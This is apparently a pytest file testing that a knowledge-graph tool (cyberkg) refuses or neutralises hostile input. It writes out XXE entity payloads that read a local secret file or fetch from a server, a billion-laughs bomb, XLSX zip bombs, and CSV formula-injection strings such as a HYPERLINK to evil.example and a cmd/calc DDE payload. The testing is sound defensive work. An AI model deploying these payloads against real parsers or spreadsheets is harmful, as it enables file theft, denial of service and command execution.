"""Hostile input: RDF/XML with external entities (XXE) or entity expansion (billion laughs), XLSX zip
bombs, CSV formula injection in the ``csv-sheets`` export, and oversized import files.

Each is refused with a clear error or neutralised: no file is read, no request is sent (a local
HTTP server counts the requests), the size limit applies before anything expands, and peak memory
(the subprocess's own high-water mark, VmHWM) stays far below the machine's.
"""

from __future__ import annotations

import http.server
import io
import os
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from cyberkg.core.errors import CyberkgError, DataError
from import_fixtures import DATA, setup_env

SECRET = "SECRET-MARKER-7f3a"
RDF_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#"'


@pytest.fixture
def kg_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return setup_env(tmp_path, monkeypatch)


@pytest.fixture
def http_log() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1 that records every request it gets (none may arrive)."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            body = f'<!ENTITY leak "{SECRET}">'.encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def _rdfxml(doctype: str, label: str) -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rdf:RDF {RDF_NS}>\n'
            f'  <rdf:Description rdf:about="https://example.org/a"><rdfs:label>{label}</rdfs:label>'
            "</rdf:Description>\n</rdf:RDF>\n").encode()


def _xxe_cases(url: str, secret_file: Path) -> dict[str, bytes]:
    return {
        "file entity": _rdfxml(f'<!DOCTYPE rdf:RDF [ <!ENTITY x SYSTEM "file://{secret_file}"> ]>', "&x;"),
        "http entity": _rdfxml(f'<!DOCTYPE rdf:RDF [ <!ENTITY x SYSTEM "{url}/entity"> ]>', "&x;"),
        "public entity": _rdfxml(f'<!DOCTYPE rdf:RDF [ <!ENTITY x PUBLIC "-//X//EN" "{url}/public"> ]>', "&x;"),
        "parameter entity": _rdfxml(f'<!DOCTYPE rdf:RDF [ <!ENTITY % p SYSTEM "{url}/dtd"> %p; ]>', "&leak;"),
        "external DTD": _rdfxml(f'<!DOCTYPE rdf:RDF SYSTEM "{url}/rdf.dtd">', "x"),
    }


def test_xml_external_entities_are_refused_no_file_read_no_request(tmp_path: Path, http_log) -> None:  # type: ignore[no-untyped-def]
    from cyberkg.importers.base import FileInfo
    from cyberkg.importers.rdf import to_graph

    url, seen = http_log
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    for what, data in _xxe_cases(url, secret).items():
        with pytest.raises(DataError) as err:
            to_graph(data, "rdfxml", FileInfo("x", "x.rdf", "rdfxml", "0" * 64))
        assert "entit" in str(err.value).lower() or "DTD" in str(err.value), (what, str(err.value))
        assert "x.rdf" in str(err.value) and SECRET not in str(err.value), what
    assert seen == [], f"requests were sent: {seen}"


BILLION_LAUGHS = _rdfxml(
    "<!DOCTYPE rdf:RDF [\n <!ENTITY a \"aaaaaaaaaa\">\n"
    + "".join(f' <!ENTITY {chr(98 + k)} "{("&" + chr(97 + k) + ";") * 10}">\n' for k in range(9))
    + "]>", "&j;")


_REPORT_PEAK = """
import atexit, os
def _peak():
    with open("/proc/self/status") as f:
        hwm = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
    with open(os.environ["PEAK_RSS_FILE"], "w") as out:
        out.write(str(hwm))
atexit.register(_peak)
"""


def _peak_rss_mb(code: str, env: dict[str, str] | None = None) -> tuple[float, subprocess.CompletedProcess[str]]:
    """Run ``code`` in a fresh interpreter; its own peak resident memory in MB, and its output.

    The child's high-water mark of its own image (VmHWM, kB) is read as it exits: ``getrusage``'s
    ru_maxrss of a child starts from the parent's size at fork (pytest's, 350 MB in the full suite),
    so it cannot tell a small child from a big parent."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        peak_file = Path(tmp) / "peak"
        r = subprocess.run([sys.executable, "-c", _REPORT_PEAK + code], capture_output=True, text=True, timeout=300,
                           env={**os.environ, **(env or {}), "PEAK_RSS_FILE": str(peak_file)})
        return int(peak_file.read_text()) / 1024, r


def test_billion_laughs_is_refused_fast_and_small(tmp_path: Path) -> None:
    """10^10 characters if expanded; refused in well under a second, within ~200 MB."""
    bomb = tmp_path / "lol.rdf"
    bomb.write_bytes(BILLION_LAUGHS)
    code = (
        "import time, sys\n"
        "from cyberkg.importers.base import FileInfo\n"
        "from cyberkg.importers.rdf import to_graph\n"
        "from cyberkg.core.errors import DataError\n"
        "t = time.perf_counter()\n"
        f"data = open({str(bomb)!r}, 'rb').read()\n"
        "try:\n"
        "    to_graph(data, 'rdfxml', FileInfo('x', 'lol.rdf', 'rdfxml', '0' * 64))\n"
        "except DataError as e:\n"
        "    print('refused', round(time.perf_counter() - t, 3), str(e).splitlines()[1])\n"
    )
    peak, r = _peak_rss_mb(code)
    print(f"\nbillion laughs: {r.stdout.strip()}, peak RSS {peak:.0f} MB")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("refused"), r.stdout + r.stderr
    assert float(r.stdout.split()[1]) < 5, r.stdout
    assert peak < 400, f"peak RSS {peak:.0f} MB"
    assert "entit" in r.stdout.lower()


def _zip_bomb(declared_mb: int, zip64: bool = True) -> bytes:
    """An XLSX-looking zip whose elements sheet inflates to ``declared_mb`` MB of XML (a few KB packed)."""
    src = io.BytesIO()
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "elements"
    wb.save(src)
    out = io.BytesIO()
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for info in z.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * (1 << 20) + b"</t></is></c></row>"
                with bomb.open(info.filename, "w", force_zip64=zip64) as w:
                    w.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                            b"<sheetData>")
                    for _ in range(declared_mb):
                        w.write(row)
                    w.write(b"</sheetData></worksheet>")
            else:
                bomb.writestr(info, z.read(info.filename))
    return out.getvalue()


def test_xlsx_zip_bomb_is_refused_before_it_expands(tmp_path: Path) -> None:
    data = _zip_bomb(1024)  # 1 GiB of XML in a few MB
    assert len(data) < 8 << 20
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(data)
    code = (
        "from pathlib import Path\n"
        "from cyberkg.importers.sheet_read import read\n"
        f"p = Path({str(path)!r})\n"
        "els, cons, problems = read([(p, p.read_bytes())], 'xlsx')\n"
        "print(problems[0])\n"
    )
    peak, r = _peak_rss_mb(code)
    print(f"\nzip bomb ({len(data):,} bytes, 1 GiB inflated): peak RSS {peak:.0f} MB")
    assert r.returncode == 0, r.stderr
    assert "bomb.xlsx" in r.stdout and "CYBERKG_MAX_IMPORT_MB" in r.stdout and "expands to" in r.stdout, r.stdout
    assert peak < 300, f"peak RSS {peak:.0f} MB"


def test_xlsx_member_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    """A zip entry that declares 1 KB but holds 4 MB: zipfile inflates no further than declared, so
    the sheet is cut short and the workbook is refused with a clear problem, in little memory."""
    from cyberkg.importers.sheet_read import read

    data = bytearray(_zip_bomb(4, zip64=False))
    name = b"xl/worksheets/sheet1.xml"
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        at = data.find(sig)
        while at >= 0:
            n = int.from_bytes(data[at + (26 if sig == b"PK\x03\x04" else 28):][:2], "little")
            start = at + (30 if sig == b"PK\x03\x04" else 46)
            if data[start: start + n] == name:
                data[at + off: at + off + 4] = (1024).to_bytes(4, "little")
            at = data.find(sig, at + 4)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name.decode()).file_size == 1024
    problems = read([(tmp_path / "lie.xlsx", bytes(data))], "xlsx")[2]
    assert problems and "lie.xlsx" in str(problems[0]) and "cannot read the workbook" in str(problems[0])


def test_csv_sheets_export_neutralises_formulas_and_import_restores_them(kg_env: Path, tmp_path: Path) -> None:
    from cyberkg.export.sheets import csv_bytes, neutralise
    from cyberkg.importers import import_files
    from cyberkg.importers.sheet_read import read_csv
    from cyberkg.importers.sheet_schema import FORMULA_START

    hostile = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tTAB=1", "\rCR=1", "=1+1"]
    for value in hostile:
        assert neutralise(value) == "'" + value
    assert neutralise("plain text") == "plain text" and neutralise("'quoted") == "'quoted"
    rows = [{"id": f"x{i}", "kind": "actor", "label": v} for i, v in enumerate(hostile)]
    data = csv_bytes(("id", "kind", "label"), rows)
    import csv as csvmod

    cells = [r[2] for r in list(csvmod.reader(io.StringIO(data.decode(), newline="")))[1:]]
    assert len(cells) == len(hostile) and not any(c.startswith(FORMULA_START) for c in cells), cells
    problems: list = []  # type: ignore[type-arg]
    sheet = read_csv(data, "elements.csv", "elements", ("id", "kind", "label"), problems)
    assert problems == []
    got = [cells["label"] for _, cells in sheet.rows]
    assert got == [v.strip() for v in hostile]  # the importer gives the original back (cells are trimmed)

    # end to end: a label from an imported file that starts with '=' survives export -> import
    els = tmp_path / "f-elements.csv"
    els.write_text("id,kind,label\nformula-actor,actor,=1+2 (not a formula)\n", encoding="utf-8")
    import_files([els], date="2024-01-01")
    from cyberkg.export.sheets import write_sheets
    from cyberkg.store.built import open_built

    out = tmp_path / "sheets"
    write_sheets(open_built(), out)
    text = (out / "elements.csv").read_text(encoding="utf-8")
    assert ",'=1+2 (not a formula)," in text
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text


def test_csv_and_tsv_row_output_neutralises_formulas_json_unchanged(kg_env: Path, tmp_path: Path) -> None:
    """Every CSV/TSV table output (query, stats, gaps…), not only csv-sheets (issue 19, item 3)."""
    import csv as csvmod
    import json

    from click.testing import CliRunner
    from rdflib import Literal

    from cyberkg.cli.main import main
    from cyberkg.core.output import render
    from cyberkg.importers import import_files

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [{"label": Literal(hostile), "n": Literal(-3), "t": "@SUM(A1)"}]
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        cells = list(csvmod.reader(io.StringIO(render(["label", "n", "t"], rows, fmt)), delimiter=sep))[1]
        assert cells == ["'" + hostile, "-3", "'@SUM(A1)"], fmt
    assert json.loads(render(["label", "n", "t"], rows, "json")) == [{"label": hostile, "n": -3, "t": "@SUM(A1)"}]

    els = tmp_path / "f-elements.csv"
    els.write_text('id,kind,label\nevil-actor,actor,"=HYPERLINK(""http://evil.example/"",""x"")"\n', encoding="utf-8")
    import_files([els], date="2024-01-01")
    rq = tmp_path / "labels.rq"
    rq.write_text("#+ summary: labels\nPREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n"
                  'SELECT ?label WHERE { ?x rdfs:label ?label FILTER(STRSTARTS(?label, "=")) } ORDER BY ?label\n')
    for fmt in ("csv", "tsv"):
        r = CliRunner().invoke(main, ["query", str(rq), "--format", fmt])
        assert r.exit_code == 0, r.output
        lines = r.stdout.splitlines()
        assert lines[0] == "label" and len(lines) == 2 and lines[1].lstrip('"').startswith("'="), lines
    r = CliRunner().invoke(main, ["query", str(rq), "--format", "json"])
    assert json.loads(r.stdout) == [{"label": '=HYPERLINK("http://evil.example/","x")'}]


def test_oversized_import_is_refused_with_the_limit_named(kg_env: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from cyberkg.importers import import_files

    big = tmp_path / "big.nt"
    with big.open("wb") as f:
        f.truncate(3 << 20)  # 3 MB of zeros (sparse: nothing to write)
    monkeypatch.setenv("CYBERKG_MAX_IMPORT_MB", "2")
    with pytest.raises(CyberkgError, match=r"big\.nt.*3\.0 MB.*CYBERKG_MAX_IMPORT_MB"):
        import_files([big])
    monkeypatch.setenv("CYBERKG_MAX_IMPORT_MB", "two")
    with pytest.raises(CyberkgError, match="CYBERKG_MAX_IMPORT_MB"):
        import_files([big])


def test_oversized_import_at_the_cli_stays_small(kg_env: Path, tmp_path: Path) -> None:
    """A 2 GB file (sparse) against the default limit: refused in a second, peak RSS < 200 MB."""
    from cyberkg.importers.limits import DEFAULT_MAX_IMPORT_MB

    big = tmp_path / "huge.ttl"
    with big.open("wb") as f:
        f.truncate(2 << 30)
    assert big.stat().st_size > DEFAULT_MAX_IMPORT_MB << 20
    code = (
        "import sys\n"
        "from cyberkg.cli import main\n"
        f"sys.argv = ['cyberkg', 'import', {str(big)!r}]\n"
        "main()\n"
    )
    t = time.perf_counter()
    peak, r = _peak_rss_mb(code)
    took = time.perf_counter() - t
    print(f"\n2 GB import: refused in {took:.2f} s, peak RSS {peak:.0f} MB")
    assert r.returncode == 2, r.stderr
    assert r.stderr.startswith("error: ") and "CYBERKG_MAX_IMPORT_MB" in r.stderr and "Traceback" not in r.stderr
    assert peak < 250, f"peak RSS {peak:.0f} MB"
    assert took < 60


def test_the_import_fixtures_are_far_below_the_limit() -> None:
    from cyberkg.importers.limits import max_import_bytes

    assert all(p.stat().st_size < max_import_bytes() for p in DATA.iterdir())
